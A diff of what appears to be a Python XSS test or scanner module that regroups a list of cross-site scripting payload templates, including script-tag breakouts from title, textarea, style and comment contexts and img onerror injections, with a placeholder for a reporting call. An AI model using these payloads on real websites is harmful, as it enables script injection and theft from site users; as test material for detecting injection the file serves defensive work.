@@ -4,26 +4,16 @@ from __future__ import annotations
 
 # {run} is replaced by a call that the page reports.
 _CLASSIC = (
-    "<script data-xss>{run}</script>",
-    "<ScRiPt data-xss>{run}</sCrIpT>",
-    "<script data-xss src=/static/none.js></script>",
-    "<script data-xss type=module>{run}</script>",
-    "</script><script data-xss>{run}</script>",
-    "</title><script data-xss>{run}</script>",
-    "</textarea><script data-xss>{run}</script>",
-    "</style><script data-xss>{run}</script>",
-    "</noscript><script data-xss>{run}</script>",
-    "</template><script data-xss>{run}</script>",
-    "</pre><script data-xss>{run}</script>",
-    "</option></select><img data-xss src=x onerror={run}>",
-    "</td></tr></table><img data-xss src=x onerror={run}>",
-    "--><script data-xss>{run}</script>",
-    "<!--><img data-xss src=x onerror={run}>",
-    "]]><script data-xss>{run}</script>",
-    "<![CDATA[<img data-xss src=x onerror={run}>]]>",
-    "<<script data-xss>{run}//<</script>",
-    "<script data-xss\n>{run}</script\n>",
-    "<script data-xss>/*{run}*/</script>",
+    *("<script data-xss>{run}</script>", "<ScRiPt data-xss>{run}</sCrIpT>"),
+    *("<script data-xss src=/static/none.js></script>", "<script data-xss type=module>{run}</script>"),
+    *("</script><script data-xss>{run}</script>", "</title><script data-xss>{run}</script>"),
+    *("</textarea><script data-xss>{run}</script>", "</style><script data-xss>{run}</script>"),
+    *("</noscript><script data-xss>{run}</script>", "</template><script data-xss>{run}</script>"),
+    *("</pre><script data-xss>{run}</script>", "</option></select><img data-xss src=x onerror={run}>"),
+    *("</td></tr></table><img data-xss src=x onerror={run}>", "--><script data-xss>{run}</script>"),
+    *("<!--><img data-xss src=x onerror={run}>", "]]><script data-xss>{run}</script>"),
+    *("<![CDATA[<img data-xss src=x onerror={run}>]]>", "<<script data-xss>{run}//<</script>"),
+    *("<script data-xss\n>{run}</script\n>", "<script data-xss>/*{run}*/</script>"),
 )
 _HANDLERS = tuple(
     f"<{tag} data-xss {handler}>"
